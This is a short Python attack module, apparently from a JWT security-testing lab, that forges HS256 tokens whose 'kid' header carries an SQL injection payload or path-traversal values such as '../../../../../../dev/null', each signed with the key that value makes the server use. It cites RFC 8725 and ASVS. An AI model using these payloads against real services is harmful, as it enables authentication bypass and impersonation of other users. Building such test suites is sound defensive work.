"""Let the token say which key checks it.

Exploits `kid`, the name of a key, where it reaches SQL or a path unchecked: the attacker then
names a key that is known.
Source: RFC 8725, section 3.10 Do Not Trust Received Claims,
https://www.rfc-editor.org/rfc/rfc8725#section-3.10
ASVS: 9.1.3
"""

from attacks.lab.attack import attack
from attacks.lab.forge import signed
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target

KEYS = {
    "SQL in kid": ("x' UNION SELECT 'known-key", b"known-key"),
    "path in kid, to an empty file": ("../../../../../../dev/null", b""),
    "path in kid, to no file": ("../../../../../../no/such/key.pem", b""),
}


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Sign with a known key, and point to it."""
    victim = target.enrol()
    claims = target.claims_about(victim)
    return judge(
        {
            trick: target.read(signed(claims, key, target.forged_header(alg="HS256", kid=kid)))
            for trick, (kid, key) in KEYS.items()
        }
    )
